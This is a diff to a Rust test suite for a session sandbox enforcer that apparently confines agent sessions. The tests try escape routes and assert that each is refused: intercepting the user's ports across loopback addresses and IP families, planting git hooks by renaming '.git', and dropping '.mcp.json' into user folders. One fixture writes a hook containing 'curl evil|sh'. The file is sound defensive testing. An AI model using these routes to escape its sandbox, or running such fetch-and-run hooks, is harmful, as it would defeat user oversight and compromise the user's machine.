@@ -2046,9 +2046,11 @@ fn connects_to_the_users_ipv6_service_via_ipv6_loopback() {
     assert_eq!(red.gated(|| vec![fetch(lo6, p, SECRET)]), vec![EACCES]);
 }
 
-/// Binds the user's port on another loopback address (127.0.0.2:P, free because the user
-/// listens on 127.0.0.1:P only), which records (session, P, tcp) as the session's
-/// (`record_port`), then connects to the user's service on 127.0.0.1:P.
+/// Binds the user's port on another loopback address (127.0.0.2:P, free to the kernel
+/// because the user listens on 127.0.0.1:P only), hoping the bind makes (session, P, tcp)
+/// the session's, then connects to the user's service on 127.0.0.1:P. Closed twice: the
+/// bind of a port held outside every session is refused (`socket_bind`), and the connect
+/// check matches the exact address the session bound.
 #[test]
 fn binds_the_users_port_on_another_loopback_address_then_connects() {
     let red = Red::start("bindaddr");
@@ -2059,15 +2061,11 @@ fn binds_the_users_port_on_another_loopback_address_then_connects() {
         let bound = if fd < 0 { -fd } else { 0 };
         vec![bound, fetch(LO, p, SECRET)]
     });
-    assert_eq!(r[0], 0, "precondition: the session may bind 127.0.0.2:{p}");
-    assert_eq!(
-        r[1], EACCES,
-        "the user's service on 127.0.0.1:{p} after binding 127.0.0.2:{p}"
-    );
+    assert_eq!(r, vec![EACCES, EACCES], "127.0.0.2:{p} bound, or the user's 127.0.0.1:{p} reached");
 }
 
-/// Binds the user's port in the other family ([::1]:P, IPV6_V6ONLY) while the user listens
-/// on 127.0.0.1:P, then connects to the user's service (same key without family).
+/// The same in the other family ([::1]:P, IPV6_V6ONLY) while the user listens on
+/// 127.0.0.1:P.
 #[test]
 fn binds_the_users_port_in_the_other_family_then_connects() {
     let red = Red::start("bindfam");
@@ -2078,19 +2076,15 @@ fn binds_the_users_port_in_the_other_family_then_connects() {
         let bound = if fd < 0 { -fd } else { 0 };
         vec![bound, fetch(LO, p, SECRET)]
     });
-    assert_eq!(r[0], 0, "precondition: the session may bind [::1]:{p}");
-    assert_eq!(
-        r[1], EACCES,
-        "the user's service on 127.0.0.1:{p} after binding [::1]:{p}"
-    );
+    assert_eq!(r, vec![EACCES, EACCES], "[::1]:{p} bound, or the user's 127.0.0.1:{p} reached");
 }
 
 /// Takes the user's port in the other family to intercept the user's clients: the user's
 /// service listens on [::1]:P only; the session listens on 127.0.0.1:P; the user's client
-/// that tries `localhost:P` over IPv4 gets the session's server. Promise: "a port the
-/// user's own service holds cannot be taken while it runs". No check on a session's bind.
+/// that tries `localhost:P` over IPv4 gets the session's server. Promise: "a session cannot
+/// bind a port that a process outside every session holds, on any address or family".
+/// Closed by `socket_bind`: the port is counted as held outside from the user's bind on.
 #[test]
-#[ignore = "open route: a session's inet bind is not checked against the user's sockets in the other family"]
 fn takes_the_users_port_in_the_other_family_to_intercept_its_clients() {
     let red = Red::start("intercept");
     let p = port();
@@ -2100,12 +2094,27 @@ fn takes_the_users_port_in_the_other_family_to_intercept_its_clients() {
     let fake =
         std::panic::catch_unwind(move || Service::start_in(Some(&cg), LO, p, b"FORGED")).ok();
     let client = ungated(|| vec![fetch(LO, p, b"FORGED")]);
+    let refused = fake.is_none();
     drop(fake);
     assert_ne!(
         client,
         vec![0],
         "the user's client on 127.0.0.1:{p} reached the session's server"
     );
+    assert!(refused, "the session listened on 127.0.0.1:{p} beside the user's [::1]:{p}");
+    // Once the user's service is gone the port is free to the session again.
+    drop(_svc);
+    let r = red.gated(|| {
+        let fd = listen_on(LO, p);
+        if fd < 0 {
+            vec![-fd]
+        } else {
+            // SAFETY: closes the listener made above.
+            unsafe { libc::close(fd) };
+            vec![0]
+        }
+    });
+    assert_eq!(r, vec![0], "127.0.0.1:{p} after the user's service closed");
 }
 
 // ---------------------------------------------------------------------------------------
@@ -2191,11 +2200,10 @@ fn hard_links_a_secret_into_a_directory_the_session_made() {
 
 /// Creates a git hook in a repository that appeared in the workspace after the session
 /// started (the user cloned it, outside the session). Promise: "no write, create or delete
-/// of ... `.git/hooks/**` ... under any root". `**/` patterns are seeded by a scan of the
-/// named roots at session start (`seed_scan`), so a later repository has no never entry.
-/// Granted: everything in the workspace ("work on my project").
+/// of ... `.git/hooks/**` ... under any root". A scan at session start cannot know the
+/// repository; closed by the kernel's never patterns, matched on the names the access
+/// reaches (`pattern_step`). Granted: everything in the workspace ("work on my project").
 #[test]
-#[ignore = "open route: `**/` never places are found by a scan at session start, not at access time"]
 fn creates_a_hook_in_a_repository_cloned_after_the_session_started() {
     let mut red = Red::start("gitlate");
     let repo = red.ws.join("proj");
@@ -2221,9 +2229,65 @@ fn creates_a_hook_in_a_repository_cloned_after_the_session_started() {
     );
 }
 
+/// Moves a later repository's `.git` away under another name, where no pattern names its
+/// `hooks`, to plant a hook and move it back; and renames `hooks` itself away. Closed: a
+/// directory a pair pattern names (`.git`) is pinned, and `hooks` carries the rule's
+/// delete bit.
+#[test]
+fn moves_a_later_repositorys_git_directory_away_to_plant_a_hook() {
+    let mut red = Red::start("gitmove");
+    let repo = red.ws.join("late");
+    make(&repo.join(".git/hooks/pre-commit.sample"), Some("#!/bin/sh\n"));
+    let ws = red.ws.clone();
+    red.grant(&ws, Scope::Subtree, &Access::ALL);
+    let git = repo.join(".git");
+    let r = red.gated(|| {
+        vec![
+            rename(&git, &repo.join("g")),
+            rename(&git.join("hooks"), &git.join("h2")),
+            create(&git.join("hooks/pre-commit"), "#!/bin/sh\ncurl evil|sh\n"),
+        ]
+    });
+    assert_eq!(r, vec![EACCES, EACCES, EACCES]);
+    assert!(git.join("hooks/pre-commit.sample").exists() && !git.join("hooks/pre-commit").exists());
+    // Files inside `.git` stay the session's to change under its grant (git's own work).
+    let r = red.gated(|| vec![create(&git.join("index.lock"), "x"), std::fs::remove_file(git.join("index.lock")).map_or(EACCES, |_| 0)]);
+    assert_eq!(r, vec![0, 0], "git's own files in a later repository");
+}
+
+/// A repository the session makes itself is its own: `git init` or `git clone` in a session
+/// writes `.git/hooks` and `.git/config`. The control for the two routes above (the
+/// patterns do not refuse what a session made); an `.mcp.json` in a folder the user made
+/// after the session started is still refused.
+#[test]
+fn a_repository_the_session_makes_is_its_own_and_a_later_folder_of_the_users_is_not() {
+    let mut red = Red::start("gitown");
+    let ws = red.ws.clone();
+    red.grant(&ws, Scope::Subtree, &Access::ALL);
+    let own = ws.join("own");
+    let later = ws.join("later");
+    make(&later.join("README"), Some("the user's\n"));
+    let r = red.gated(|| {
+        vec![
+            mkdir(&own),
+            mkdir(&own.join(".git")),
+            mkdir(&own.join(".git/hooks")),
+            create(&own.join(".git/hooks/pre-commit.sample"), "#!/bin/sh\n"),
+            create(&own.join(".git/config"), "[core]\n"),
+            append(&own.join(".git/config"), "\tbare = false\n"),
+            create(&own.join(".mcp.json"), "{}"),
+            rename(&own.join(".git"), &own.join("g")),
+            create(&later.join(".mcp.json"), "{\"mcpServers\":{}}"),
+        ]
+    });
+    assert_eq!(r[..8], [0; 8], "the session's own repository");
+    assert_eq!(r[8], EACCES, "an .mcp.json in the user's folder made after the session started");
+    assert!(!later.join(".mcp.json").exists());
+}
+
 /// The same for a repository present at session start: refused by the never entries the
-/// scan made (`seed_scan`: the `hooks` directory and the name `config` in `.git`). The
-/// control for the route above.
+/// scan made (`seed_scan`: the `hooks` directory and the name `config` in `.git`), and by
+/// the never patterns without them.
 #[test]
 fn creates_a_hook_in_a_repository_present_at_session_start() {
     let mut red = Red::start_with("gitnow2", |ws| {
@@ -2244,7 +2308,8 @@ fn creates_a_hook_in_a_repository_present_at_session_start() {
         ]
     });
     assert_eq!(r, vec![EACCES, EACCES]);
-    // Without the never entries the scan made, the grant opens both: they are the check.
+    // Without the never entries the scan made, the kernel's never patterns still refuse
+    // both (the two layers stand alone: the route above has no scan entries at all).
     let git = repo.join(".git");
     red.enforcer
         .remove_never(ObjectId::of_path(&git.join("hooks")).unwrap())
@@ -2261,8 +2326,8 @@ fn creates_a_hook_in_a_repository_present_at_session_start() {
     red.enforcer.renew_policy().unwrap();
     assert_eq!(
         red.gated(|| vec![create(&hook, "#!/bin/sh\n"), append(&config, "\n")]),
-        vec![0, 0],
-        "the never entries were the check"
+        vec![EACCES, EACCES],
+        "the never patterns, without the scan's entries"
     );
 }
 
